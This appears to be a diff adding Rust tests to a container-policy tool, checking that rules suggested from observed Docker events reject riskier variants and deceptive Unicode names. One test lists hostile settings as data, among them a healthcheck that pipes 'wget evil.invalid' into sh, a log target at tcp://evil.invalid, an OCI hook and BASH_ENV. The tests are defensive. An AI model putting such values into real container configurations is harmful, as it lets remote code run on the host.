@@ -43,6 +43,7 @@ fn event(action: Action, host: &str, thing: (&str, &str, &str), facts: &[(&str, 
         posture: Posture::Observe,
         decision: Decision { effect: Effect::Allow, rules: vec![], monitor: vec![], errors: vec![], revision: 1 },
         facts: Some(all.sparse()),
+        partial_facts: None,
         request: String::new(),
         error: String::new(),
         decided_in_us: 0,
@@ -217,6 +218,77 @@ fn more_than_a_document_holds_is_said_and_not_cut() {
     assert_eq!(rules, 60);
     let open = Terms { wildcards: BTreeSet::from([Wildcard::ContainerName]), group: None };
     assert_eq!(suggest(&many, &open).expect("fits").rules, 1);
+}
+
+/// A rule for `sleep 1` permits no other content and no more power under the same command.
+#[test]
+fn a_rule_for_a_plain_command_permits_no_hostile_healthcheck() {
+    let create = |facts: &[(&str, FactValue)]| {
+        let plain = [("network_mode", "default".into()), ("user", "app".into()), ("command", "sleep 1".into())];
+        event(Action::ContainerCreate, HOSTS[0], ("web", "app:1", "ann"), &[&plain[..], facts].concat())
+    };
+    let rules = Rules::new(&suggest([&create(&[])], &Terms::default()).expect("fits").text);
+    assert!(rules.allows(&create(&[]), false));
+    assert!(rules.allows(&create(&[("memory", 1_i64.into()), ("hostname", "h".into())]), false));
+    let set = |text: &str| FactValue::from(BTreeSet::from([text.to_owned()]));
+    for (fact, value) in [
+        ("healthcheck", "CMD-SHELL wget evil.invalid | sh".into()),
+        ("annotations", set("run.oci.hooks=/x")),
+        ("log_options", set("syslog-address=tcp://evil.invalid")),
+        ("endpoint_options", set("com.docker.network.endpoint.sysctls=net.ipv4.conf.IFNAME.forwarding=1")),
+        ("mount_targets", set("/usr/bin")),
+        ("env_names", set("BASH_ENV")),
+        ("dns", set("192.0.2.1")),
+        ("ulimits", set("rtprio=99:99")),
+        ("image_owner", "eve".into()),
+    ] {
+        assert!(!rules.allows(&create(&[(fact, value)]), false), "{fact}");
+    }
+    // Nor less of what binds it, when it was bound.
+    let bound =
+        create(&[("cap_drop", set("ALL")), ("readonly_rootfs", true.into()), ("network_disabled", true.into())]);
+    let rules = Rules::new(&suggest([&bound], &Terms::default()).expect("fits").text);
+    assert!(rules.allows(&bound, false) && !rules.allows(&create(&[("cap_drop", set("ALL"))]), false));
+}
+
+#[test]
+fn a_rule_for_a_service_names_its_image() {
+    let service = |image: &str| {
+        let facts = [("image", image.into()), ("command", "sleep 1".into())];
+        event(Action::ServiceCreate, HOSTS[0], ("web", "", "ann"), &facts)
+    };
+    let rules = Rules::new(&suggest([&service("docker.io/library/nginx:1")], &Terms::default()).expect("fits").text);
+    assert!(rules.allows(&service("docker.io/library/nginx:1"), false));
+    assert!(!rules.allows(&service("docker.io/library/other:1"), false));
+}
+
+/// Validation takes it for a deception, escaped or not; the rules for all else are given.
+#[test]
+fn what_mixes_scripts_is_left_out_and_the_rest_is_suggested() {
+    let of = |name: &str, image: &str, command: &str| {
+        event(Action::ContainerCreate, HOSTS[0], (name, image, "ann"), &[("command", command.into())])
+    };
+    let odd = [
+        of("web", "app:1", "echo \u{43f}\u{440}\u{438}\u{432}\u{435}\u{442} hello"),
+        of("web", "r.example/ngin\u{445}:1", "sh"),
+        of("a\u{61c}", "app:1", "sh"),
+        of("a\u{202e}b", "app:1", "sh"),
+    ];
+    let good = [of("web", "app:1", "sh"), of("db", "app:1", "\u{43f}\u{440}\u{438}\u{432}\u{435}\u{442}")];
+    for terms in [vec![], vec![Wildcard::ImageTag, Wildcard::Host]] {
+        let terms = Terms { wildcards: terms.into_iter().collect(), group: None };
+        let suggested = suggest(odd.iter().chain(&good), &terms).expect("fits");
+        assert_eq!(
+            validate(&suggested.text).map(|parsed| parsed.rules.len()),
+            Ok(suggested.rules),
+            "{}",
+            suggested.text
+        );
+        let rules = Rules::new(&suggested.text);
+        assert!(good.iter().all(|event| suggested.covers(event) && rules.allows(event, false)));
+        assert!(odd.iter().all(|event| !suggested.covers(event) && !rules.allows(event, false)));
+        assert_eq!(suggest(&odd, &terms).expect("fits").text, "");
+    }
 }
 
 #[test]
